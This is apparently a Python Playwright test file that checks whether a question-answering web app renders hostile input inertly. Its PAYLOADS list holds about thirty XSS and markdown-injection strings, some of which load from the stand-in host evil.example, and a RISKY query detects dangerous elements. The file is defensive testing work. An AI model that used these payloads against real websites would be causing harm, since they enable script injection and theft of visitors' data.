"""Whatever a document, a model or a visitor says, it does nothing in the page but stand there."""

from dataclasses import replace
from typing import Any

from playwright.async_api import Page, expect

from .conftest import Scene
from .scripted import as_source
from .shelf import STORING
from .test_answers import ask

PAYLOADS = (
    "<script>window.ran = 1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><use href='https://evil.example/a.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<body onload=window.ran=1>",
    "<a href='javascript:window.ran=1' id=go>go</a>",
    "<form action='https://evil.example'><button>go</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<template><script>window.ran=1</script></template><noscript><img src=x onerror=window.ran=1></noscript>",
    "<question-box><form><button formaction='javascript:window.ran=1'>x</button></form></question-box>",
    "[go](javascript:window.ran=1) [go](JAVASCRIPT:window.ran=1) [go](java&#10;script:window.ran=1)",
    "[go](data:text/html,<script>parent.ran=1</script>) <javascript:window.ran=1>",
    "![x](https://evil.example/pixel.png) ![x](x' onerror='window.ran=1)",
    "[x]: javascript:window.ran=1\n\n[x] ![a][x]",
    '```"><img src=x onerror=window.ran=1>\ncode\n```',
    "\"><script>window.ran=1</script><a title='",
    "</textarea></template></script><script>window.ran=1</script>",
    "[1]<img src=x onerror=window.ran=1>[1](javascript:window.ran=1)",
    "&lt;img src=x onerror=window.ran=1&gt; &#60;script&#62;window.ran=1&#60;/script&#62;",
)


RISKY = """() => [...document.querySelectorAll("*")].filter(element =>
    ["IFRAME", "OBJECT", "EMBED", "BASE", "IMG"].includes(element.tagName) ||
    (element.tagName === "SCRIPT" && !element.src.startsWith(location.origin)) ||
    [...element.attributes].some(({ name, value }) => name.startsWith("on") ||
        (/^(href|src|action|formaction|data)$/.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value)))
).map(element => element.outerHTML.slice(0, 200))"""


async def harms(page: Page, scene: Scene) -> list[str]:
    """Return what ran, was asked for elsewhere, or stands ready to run."""
    ran = ["a script ran"] if await page.evaluate("window.ran !== undefined") else []
    risky: list[str] = await page.evaluate(RISKY)
    return ran + risky + scene.faults.unexpected()


async def test_nothing_in_a_turn_runs_or_calls_out(scene: Scene) -> None:
    scene.faults.expect("404")
    page = await scene.enter()
    for payload in PAYLOADS:
        await hostile_turn(page, scene, payload)
        assert await harms(page, scene) == [], payload
    await click_links(page, "answer-text a:not(.citation), a.note-link, a.passage-place")
    assert await harms(page, scene) == []


async def hostile_turn(page: Page, scene: Scene, payload: str) -> None:
    """Put the payload into everything that a turn shows."""
    await ask(page, scene, payload)
    script = scene.script
    poison: dict[str, Any] = {"title": payload, "headings": [payload], "url": payload, "text": payload}
    await script.say("sources", sources=[as_source(1, STORING, id="gone", **poison)])
    at = await script.write(f"{payload}\n\nA claim [1].\n\n", numbers=(1,))
    await script.say("citation", n=1, supported=True, quote=payload, **{"from": at - 16, "to": at - 2})
    await script.say("delta", text=payload)
    await script.say("error", code=payload, message=payload, retryable=True)
    await expect(page.get_by_role("button", name="Ask again").last).to_be_enabled()
    await page.locator("a.citation").last.click()
    await expect(page.locator("dialog .passage-text")).not_to_be_empty()
    await page.keyboard.press("Escape")


async def test_nothing_in_a_document_runs_or_calls_out(scene: Scene) -> None:
    page = await scene.enter()
    for payload in PAYLOADS:
        passage = replace(
            STORING, text=payload, title=payload, headings=(payload,), anchor=payload, url=payload
        )
        scene.script.shelf.kept = (passage,)
        for path in (f"documents/{STORING.document}", f"passages/documents/{STORING.id}"):
            shown = await page.goto(f"{scene.script.address}/{path}")
            assert shown is not None
            assert shown.ok
            assert await harms(page, scene) == [], payload


async def click_links(page: Page, selector: str) -> None:
    """Follow the links that lead to a script, without leaving for real addresses."""
    await page.evaluate(
        """selector => document.querySelectorAll(selector).forEach(link => {
            if (!/^https?:/.test(link.protocol)) link.click();
        })""",
        selector,
    )
